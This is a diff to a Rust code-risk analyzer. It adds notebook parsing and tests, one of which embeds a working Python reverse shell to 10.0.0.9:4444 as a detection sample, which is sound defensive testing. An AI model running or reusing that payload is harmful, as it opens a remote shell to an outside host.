@@ -1,8 +1,9 @@
 //! The one door: from a submission to its report.
 
 use crate::front;
-use crate::ir::{File, FileId, Program};
+use crate::ir::{File, FileId, Language, Program};
 use crate::machine::{self, TaintFlow, Trace};
+use crate::notebook;
 use crate::report::Report;
 use crate::risk::{self, Features};
 use crate::rules::{self, Places, Rules};
@@ -97,8 +98,12 @@ fn program_of(submission: &Submission, bounds: &Bounds, limits_reached: &mut Vec
         if read.len() < file.bytes.len() {
             note(limits_reached, "file_bytes");
         }
-        if let Some(language) = file.language {
-            let text = String::from_utf8_lossy(read).into_owned();
+        let text = String::from_utf8_lossy(read);
+        let (language, text) = match notebook::is_notebook(&file.path) {
+            true => (Some(Language::Python), notebook::code(&text).unwrap_or_default()),
+            false => (file.language, text.into_owned()),
+        };
+        if let Some(language) = language {
             program.files.push(File::new(file.path.clone(), language, text));
         }
     }
@@ -128,5 +133,66 @@ fn told(flow: &TaintFlow, places: &Places<'_>) -> Flow {
 fn note(limits: &mut Vec<String>, what: &str) {
     if limits.iter().all(|known| known != what) {
         limits.push(what.to_owned());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::submission::SourceFile;
+
+    fn report(path: &str, language: Language, code: &str) -> Report {
+        let file = SourceFile {
+            path: path.into(),
+            language: Some(language),
+            bytes: code.as_bytes().to_vec(),
+        };
+        analyze(&Submission { files: vec![file] }, &Bounds::default())
+    }
+
+    #[test]
+    fn an_honest_program_has_a_low_risk() {
+        let report = report(
+            "main.py",
+            Language::Python,
+            "for n in range(3):\n    print(n * n)\n",
+        );
+        assert!(
+            report.findings.is_empty() && report.flows.is_empty(),
+            "{report:?}"
+        );
+        assert!(
+            report.risk.score < risk::MAX_ALLOWED_RISK / 2.0,
+            "{}",
+            report.risk.score
+        );
+        assert_eq!((report.files, report.lines), (1, 2));
+    }
+
+    #[test]
+    fn a_reverse_shell_is_told_with_its_place() {
+        let code = "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+                    s.connect((\"10.0.0.9\", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n\
+                    os.dup2(s.fileno(), 2)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n";
+        let report = report("main.py", Language::Python, code);
+        assert!(report.risk.score >= risk::MAX_ALLOWED_RISK, "{report:?}");
+        assert!(
+            report
+                .findings
+                .iter()
+                .all(|finding| finding.location.file == "main.py")
+        );
+        assert!(!report.findings.is_empty());
+    }
+
+    #[test]
+    fn a_broken_file_and_a_cut_one_are_said() {
+        let broken = report("main.py", Language::Python, "def f(:\n  pass\n");
+        assert!(
+            broken.limits_reached.iter().any(|limit| limit == "syntax_error"),
+            "{broken:?}"
+        );
+        let long = report("main.py", Language::Python, &"x = 1\n".repeat(300_000));
+        assert!(long.limits_reached.iter().any(|limit| limit == "file_bytes"));
     }
 }
